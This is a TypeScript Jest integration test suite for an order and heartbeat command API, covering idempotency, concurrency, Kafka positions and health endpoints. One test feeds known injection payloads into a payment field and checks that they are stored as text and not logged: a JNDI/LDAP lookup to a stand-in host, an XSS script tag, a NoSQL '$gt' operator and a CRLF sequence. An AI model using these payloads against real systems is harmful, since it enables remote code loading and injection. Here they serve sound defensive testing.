import { randomUUID } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { connectKafka, fetchEndOffsets } from '@millrace/kafka'
import { createTokenSigner, positionTokens, silentLogger } from '@millrace/runtime'
import { httpClient, type HttpAnswer, type HttpClient } from '../../../test/support/http-client.ts'
import {
  startServiceProcess,
  TOKEN_SECRET,
  type ServiceProcess,
} from '../../../test/support/service-process.ts'
import { prepareServers, type TestServers } from '../../../test/support/test-servers.ts'
import { headersWith, heartbeat, ndjson, placeText } from './bad-requests.ts'

const DEV_TOKEN = 'a-development-token'

describe('command-api', () => {
  let servers: TestServers
  let services: ServiceProcess[]
  let clients: HttpClient[]

  beforeAll(async () => {
    servers = await prepareServers({ name: 'command-api' })
    services = await Promise.all(
      [1, 2].map(() => startServiceProcess('command-api', servers, { DEV_TOKEN, TICK_EVERY_MS: '0' })),
    )
    clients = services.map(({ url }) => httpClient(url))
  })

  afterAll(async () => {
    await Promise.all(clients.map((client) => client.close()))
    await Promise.all(services.map((service) => service.stop()))
    await servers.stop()
  })

  const replica = (number: 0 | 1): HttpClient => clients[number] as HttpClient
  const send = (path: string, body: string, headers: Readonly<Record<string, string>> = {}, via: 0 | 1 = 0) =>
    replica(via).send({
      method: 'POST',
      path,
      body,
      headers: headersWith({ 'idempotency-key': randomUUID(), ...headers }),
    })

  const expectProblem = (answer: HttpAnswer, status: number): void => {
    expect(answer.headers['content-type']).toBe('application/problem+json')
    expect(answer.json()).toMatchObject({
      status,
      type: expect.stringMatching(/^https:\/\//),
      title: expect.any(String),
      detail: expect.any(String),
      instance: `urn:request:${String(answer.headers['x-request-id'])}`,
    })
    expect(answer.text).not.toMatch(/node_modules|\.ts:\d|Mongo|at Object/)
  }

  it('tells whom a wrong token should be from', async () => {
    const answer = await send('/orders/bad-1/place', placeText, { authorization: 'Bearer nobody' })
    expectProblem(answer, 401)
    expect(answer.headers['www-authenticate']).toBe('Bearer error="invalid_token"')
  })

  describe('commands', () => {
    it('are answered with the new version, its events and a position', async () => {
      const id = `o-${randomUUID()}`
      const answer = await send(`/orders/${id}/place`, placeText, { authorization: `Bearer ${DEV_TOKEN}` })
      expect([answer.status, answer.headers['etag']]).toEqual([200, '"1"'])
      expect(answer.json()).toEqual({
        stream: `orders.order-${id}`,
        version: 1,
        events: [{ id: expect.any(String), type: 'OrderPlaced', version: 1 }],
        position: expect.any(String),
      })
      const paid = await send(`/orders/${id}/pay`, '{"method":"card"}', { 'if-match': '"1"' })
      expect([paid.status, paid.headers['etag']]).toEqual([200, '"2"'])
    })

    it('may want that nothing is there yet: 412 with what is', async () => {
      const path = `/products/p-${randomUUID()}/add`
      const body = '{"name":"Kettle","category":"kitchen","price":{"amount":1,"currency":"USD"}}'
      const onlyNew = { 'if-none-match': '*' }
      expect((await send(path, body, onlyNew)).status).toBe(200)
      const second = await send(path, body, onlyNew)
      expectProblem(second, 412)
      expect(second.json()).toMatchObject({ currentVersion: 1 })
      expectProblem(await send(path, body, { ...onlyNew, 'if-match': '"1"' }), 400)
    })

    it('are rejected by name with 422', async () => {
      const answer = await send(`/orders/o-${randomUUID()}/pay`, '{"method":"card"}')
      expectProblem(answer, 422)
      expect(answer.json()).toMatchObject({ rejection: 'order-not-found' })
    })

    it('are answered the same when repeated, with a yes and with a no', async () => {
      const id = `o-${randomUUID()}`
      for (const [name, body] of [
        ['pay', '{"method":"card"}'],
        ['place', placeText],
      ] as const) {
        const key = { 'idempotency-key': randomUUID() }
        const first = await send(`/orders/${id}/${name}`, body, key)
        const second = await send(`/orders/${id}/${name}`, body, key, 1)
        const { instance: _, ...said } = first.json()
        expect(second.json()).toMatchObject(said)
        expect([second.status, second.headers['etag']]).toEqual([first.status, first.headers['etag']])
        expect(first.headers['idempotent-replayed']).toBeUndefined()
        expect(second.headers['idempotent-replayed']).toBe('true')
      }
    })

    it('are refused under the key of another command', async () => {
      const id = `o-${randomUUID()}`
      const key = { 'idempotency-key': randomUUID() }
      await send(`/orders/${id}/place`, placeText, key)
      const other = await send(`/orders/${id}/place`, placeText.replace('c-1', 'c-2'), key)
      expectProblem(other, 422)
      expect(other.json()).toMatchObject({ type: expect.stringMatching(/idempotency-key-reused$/) })
    })

    it('keep times of the past', async () => {
      const id = `o-${randomUUID()}`
      const body = `{"occurredAt":"1997-01-01T01:00:00+01:00",${placeText.slice(1)}`
      expect((await send(`/orders/${id}/place`, body)).status).toBe(200)
      const commit = await servers.mongoConnection.db.collection('commits').findOne({ key: id })
      expect(commit?.['events']).toMatchObject([{ occurredAt: Date.UTC(1997, 0, 1) }])
    })

    it('62: keep what looks like code as the text it is, and log none of it', async () => {
      const id = `o-${randomUUID()}`
      const method = '${jndi:ldap://canary.example/a} <script>alert(1)</script> {"$gt":""} %0d%0a'
      await send(`/orders/${id}/place`, placeText)
      expect((await send(`/orders/${id}/pay`, JSON.stringify({ method }))).status).toBe(200)
      const stream = await replica(0).send({ path: `/streams/orders.order-${id}` })
      expect(stream.json()['events']).toMatchObject([{}, { data: { method } }])
      expect(JSON.stringify(services.map((service) => service.log()))).not.toContain('canary.example')
    })

    it('drop a trace context that is none, whatever its size', async () => {
      const id = `o-${randomUUID()}`
      const traceparent = `00-${'a'.repeat(32)}-${'b'.repeat(16)}-01`
      await send(`/orders/${id}/place`, placeText, { traceparent: 'x'.repeat(8_000) })
      await send(`/orders/${id}/pay`, '{"method":"card"}', { traceparent })
      const commits = servers.mongoConnection.db.collection('commits').find({ key: id }).sort({ first: 1 })
      expect((await commits.toArray()).map((commit) => commit['traceparent'] as unknown)).toEqual([
        undefined,
        traceparent,
      ])
    })

    it('that come twice at once, to two replicas, take effect once and have one answer', async () => {
      for (let round = 0; round < 10; round++) {
        const id = `o-${randomUUID()}`
        const key = { 'idempotency-key': randomUUID() }
        const place = (via: 0 | 1) => send(`/orders/${id}/place`, placeText, key, via)
        const atOnce = await Promise.all(([0, 1, 0, 1] as const).map(place))
        for (const { status, headers } of atOnce.filter(({ status }) => status !== 200)) {
          expect([status, headers['retry-after']]).toEqual([409, '1'])
        }
        const answers = [...atOnce.filter(({ status }) => status === 200), await place(0), await place(1)]
        expect(new Set(answers.map(({ text }) => text)).size).toBe(1)
        expect(answers.filter(({ headers }) => headers['idempotent-replayed'] === undefined)).toHaveLength(1)
        const commits = servers.mongoConnection.db.collection('commits')
        expect(await commits.countDocuments({ key: id })).toBe(1)
      }
    })

    it('of 32 writers on one order: one winner per version', async () => {
      const id = `o-${randomUUID()}`
      const story: readonly (readonly [string, string])[] = [
        ['place', placeText],
        ['pay', '{"method":"card"}'],
        ['ship', '{"carrier":"DHL"}'],
        ['deliver', '{}'],
      ]
      for (const [index, [name, body]] of story.entries()) {
        const answers = await Promise.all(
          Array.from({ length: 32 }, (_, writer) =>
            send(`/orders/${id}/${name}`, body, {}, writer % 2 === 0 ? 0 : 1),
          ),
        )
        const winners = answers.filter(({ status }) => status === 200)
        expect(winners.map((winner) => winner.json()['version'])).toEqual([index + 1])
        expect(answers.filter(({ status }) => status !== 200 && status !== 422)).toEqual([])
      }
    })

    it('of 32 writers with the same If-Match: one takes effect, the others are told', async () => {
      const id = `o-${randomUUID()}`
      await send(`/orders/${id}/place`, placeText)
      const answers = await Promise.all(
        Array.from({ length: 32 }, (_, writer) =>
          send(`/orders/${id}/pay`, '{"method":"card"}', { 'if-match': '"1"' }, writer % 2 === 0 ? 0 : 1),
        ),
      )
      const statuses = answers.map(({ status }) => status).toSorted((a, b) => a - b)
      expect(statuses).toEqual([200, ...Array.from({ length: 31 }, () => 412)])
    })
  })

  describe('heartbeats', () => {
    const topic = 'heartbeat.received'
    const endOffsets = (): Promise<ReadonlyMap<number, bigint>> => {
      const kafka = connectKafka({ brokers: [servers.kafka], clientId: 'test', logger: silentLogger })
      return fetchEndOffsets(kafka, topic)
    }
    const countHeartbeats = async (): Promise<bigint> =>
      [...(await endOffsets()).values()].reduce((sum, end) => sum + end)

    /** In the partitions that have more since: their last offset. */
    const lastSince = async (before: ReadonlyMap<number, bigint>) =>
      Object.fromEntries(
        [...(await endOffsets())]
          .filter(([partition, end]) => end > (before.get(partition) ?? 0n))
          .map(([partition, end]) => [partition, Number(end) - 1]),
      )
    const positionIn = (answer: HttpAnswer) =>
      positionTokens(createTokenSigner(TOKEN_SECRET)).read('demo', String(answer.json()['position']))

    it('are acknowledged when Kafka has them, as an array and line by line', async () => {
      const before = await countHeartbeats()
      const array = await send('/heartbeats', `[${heartbeat()},${heartbeat({ pid: 2 })}]`)
      const lines = await send('/heartbeats', `${heartbeat()}\n\n${heartbeat({ pid: 3 })}`, ndjson)
      for (const answer of [array, lines])
        expect([answer.status, answer.json()]).toEqual([202, { accepted: 2, position: expect.any(String) }])
      expect(await countHeartbeats()).toBe(before + 4n)
    })

    it('are answered with the position of the last one in each partition that has any', async () => {
      const before = await endOffsets()
      const body = Array.from({ length: 40 }, (_, pid) => heartbeat({ pid }))
      const answer = await send('/heartbeats', body.join('\n'), ndjson)
      const offsets = await lastSince(before)
      expect(Object.keys(offsets)).toHaveLength(before.size)
      expect(positionIn(answer)).toEqual({ topic, offsets })
    })

    it('are all taken, as many and as large as they may be, when one partition gets them all', async () => {
      const [before, already] = [await endOffsets(), await countHeartbeats()]
      const largest = { host: 'h'.repeat(128), name: '€'.repeat(200) }
      const body = Array.from({ length: 1_000 }, (_, beat) => heartbeat({ ...largest, beat }))
      const answer = await send('/heartbeats', body.join('\n'), ndjson)
      expect([answer.status, answer.json()]).toEqual([202, { accepted: 1_000, position: expect.any(String) }])
      expect(await countHeartbeats()).toBe(already + 1_000n)
      expect(positionIn(answer)).toEqual({ topic, offsets: await lastSince(before) })
    })
  })

  it('says on its admin port that it lives, is ready and measures', async () => {
    const admin = services[0]?.admin ?? ''
    const [live, ready, metrics] = await Promise.all(
      ['/livez', '/readyz', '/metrics'].map((path) => fetch(new URL(path, admin))),
    )
    expect([live?.status, ready?.status, metrics?.status]).toEqual([200, 200, 200])
    expect(await metrics?.text()).toMatch(/millrace_relay_oldest_unpublished_seconds/)
  })

  it('ends with 78 and all faults when its environment cannot be used', async () => {
    await expect(
      startServiceProcess('command-api', servers, { TOKEN_SECRET: 'short', PORT: '-1' }),
    ).rejects.toThrow(/code 78/)
  })

  it('ends with 0 on SIGTERM', async () => {
    expect(await services[1]?.stop()).toBe(0)
  })
})
